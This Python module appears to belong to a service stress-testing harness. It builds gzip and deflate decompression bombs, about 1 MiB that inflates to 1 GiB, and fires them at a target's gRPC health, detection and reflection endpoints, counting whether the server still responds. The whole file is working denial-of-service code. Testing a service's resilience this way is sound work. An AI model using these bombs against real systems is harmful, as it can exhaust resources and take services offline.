"""Messages that are larger than they look."""

from __future__ import annotations

import zlib
from functools import cache

from http2 import DETECT, HEALTH, REFLECTION, STREAM, message
from target import PATIENCE, Tally, Target, attack, rounds

PATHS = (HEALTH, DETECT, STREAM, REFLECTION)


@cache
def bomb(encoding: str) -> bytes:
    """1 MiB that is 1 GiB of zeros; only the sum at its end is wrong."""
    packer = zlib.compressobj(9, wbits=zlib.MAX_WBITS | (16 if encoding == "gzip" else 0))
    zeros = bytes(1 << 20)
    first = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    return message(first + 1023 * again + packer.flush(), compressed=True)


def _explode(target: Target, encoding: str) -> Tally:
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        for path in PATHS:
            with survived, target.connect() as connection:
                said = connection.ask(path, bomb(encoding), PATIENCE, ("grpc-encoding", encoding))
                tally["answered"] += b"grpc-status" in said
    return tally


@attack("answered")
def gzip_bomb(target: Target) -> Tally:
    """gzip messages of 1 GiB to health, Detect, DetectStream and reflection"""
    return _explode(target, "gzip")


@attack("answered")
def deflate_bomb(target: Target) -> Tally:
    """The same by deflate"""
    return _explode(target, "deflate")
